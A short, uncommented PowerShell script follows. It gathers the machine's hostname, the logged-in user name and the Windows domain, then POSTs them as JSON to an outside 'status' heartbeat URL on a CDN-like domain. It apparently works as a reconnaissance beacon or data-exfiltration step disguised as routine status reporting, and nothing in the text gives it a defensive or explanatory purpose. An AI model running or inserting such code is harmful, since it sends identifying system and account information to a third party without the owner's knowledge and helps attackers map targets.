$info = @{
    host = $ENV:ComputerName
    user = $Env:USERNAME
    dom  = [environment]::userdomainname
}
$body = $info | convertto-json
invoke-restmethod -uri 'https://status.example-cdn.org/hb' -method post -body $body
